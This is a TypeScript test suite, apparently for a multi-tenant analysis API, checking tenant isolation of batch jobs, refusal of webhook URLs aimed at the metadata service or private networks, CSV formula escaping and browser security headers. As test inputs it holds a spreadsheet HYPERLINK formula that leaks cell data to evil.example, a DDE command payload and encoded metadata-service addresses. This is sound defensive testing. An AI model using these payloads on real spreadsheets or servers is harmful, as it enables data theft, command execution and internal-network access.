/** A job belongs to its tenant: another tenant's key sees nothing of it. */
import { describe, expect, it } from "vitest";
import { AnalyzeAsyncResponse } from "../../shared/schemas.ts";
import { call, newKey, waitForJobEnd } from "./helpers.ts";

describe("batch jobs (security)", () => {
  it("answers 404 to another tenant for the status and the results of a job", async () => {
    const { job_id } = AnalyzeAsyncResponse.parse(await (await call("/v1/analyze/async", { body: { text: "Private feedback", options: { language_code: "en" } } })).json());
    const other = await newKey("basic", "other-tenant");
    for (const path of [`/v1/status/${job_id}`, `/v1/jobs/${job_id}/results`]) {
      const res = await call(path, { key: other });
      expect(res.status).toBe(404);
      expect(await res.json()).toMatchObject({ error: { code: "NOT_FOUND" } });
    }
    expect((await call(`/v1/status/${job_id}`)).status).toBe(200);
  });

  it.each(["https://[::ffff:a9fe:a9fe]/", "https://[::ffff:169.254.169.254]/", "https://[64:ff9b::a9fe:a9fe]/", "https://[2002:a9fe:a9fe::]/", "https://0xa9fea9fe/", "https://[fd00::1]/"])(
    "refuses a webhook aimed at the metadata service or a private network: %s",
    async (callback_url) => {
      for (const [path, init] of [
        ["/v1/analyze/async", { body: { text: "a", options: { callback_url } } }],
        ["/v1/jobs", { body: { format: "csv", bytes: 10, options: { callback_url } } }],
      ] as const) {
        const res = await call(path, init);
        expect(res.status).toBe(400);
        expect(await res.json()).toMatchObject({ error: { code: "VALIDATION_ERROR", field: "options.callback_url", message: "options.callback_url: must point at a public host" } });
      }
    },
  );

  it("returns results CSV whose cells a spreadsheet shows and never runs", async () => {
    const ids = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\tTAB", "ok\u001bESC", "plain"];
    const body = ids.map((id) => JSON.stringify({ id, text: "Works well" })).join("\n");
    const accepted = AnalyzeAsyncResponse.parse(await (await call("/v1/analyze/async?language_code=en", { body, contentType: "application/x-ndjson" })).json());
    expect((await waitForJobEnd(accepted.job_id)).status).toBe("COMPLETED");
    const csv = await (await call(`/v1/jobs/${accepted.job_id}/results`, { headers: { accept: "text/csv" } })).text();
    const rows = csv.trim().split("\r\n").slice(1);
    const expected = [`"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`, `"'+cmd|' /C calc'!A0"`, `"'-2+3"`, `"'@SUM(1)"`, `"'\tTAB"`, "okESC", "plain"];
    expect(rows.map((row, i) => row.startsWith(`${expected[i]},${i + 1},`))).toEqual(expected.map(() => true));
    expect(csv).not.toMatch(/[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f]/);
    // Numbers stay numbers: the line and the scores are not quoted or prefixed.
    expect(csv.trim().split("\r\n").at(-1)).toMatch(/^plain,7,POSITIVE,0\.\d+,/);
  });

  it("sends headers that keep a browser from sniffing, framing or running an answer; the docs page runs only its own script", async () => {
    for (const path of ["/health", "/v1/usage", "/nowhere"]) {
      const res = await call(path);
      expect(res.headers.get("x-content-type-options")).toBe("nosniff");
      expect(res.headers.get("x-frame-options")).toBe("DENY");
      expect(res.headers.get("content-security-policy")).toBe("default-src 'none'; frame-ancestors 'none'; base-uri 'none'; form-action 'none'");
    }
    const docs = await call("/docs", { key: null });
    const policy = docs.headers.get("content-security-policy") ?? "";
    expect(policy).toMatch(/^default-src 'none'; script-src 'sha256-[A-Za-z0-9+/]+=*'; style-src 'sha256-[A-Za-z0-9+/]+=*'; connect-src 'self'; frame-ancestors 'none'/);
    const page = await docs.text();
    const digest = async (text: string) => btoa(String.fromCharCode(...new Uint8Array(await crypto.subtle.digest("SHA-256", new TextEncoder().encode(text)))));
    expect(policy).toContain(`'sha256-${await digest(page.match(/<script>([\s\S]*)<\/script>/)![1]!)}'`);
    expect(policy).toContain(`'sha256-${await digest(page.match(/<style>([\s\S]*)<\/style>/)![1]!)}'`);
    expect(docs.headers.get("x-content-type-options")).toBe("nosniff");
  });

  it("needs a key", async () => {
    expect((await call("/v1/analyze/async", { key: null, body: { text: "x" } })).status).toBe(401);
    expect((await call("/v1/status/job_00000000000000000000000000000000", { key: null })).status).toBe(401);
  });
});
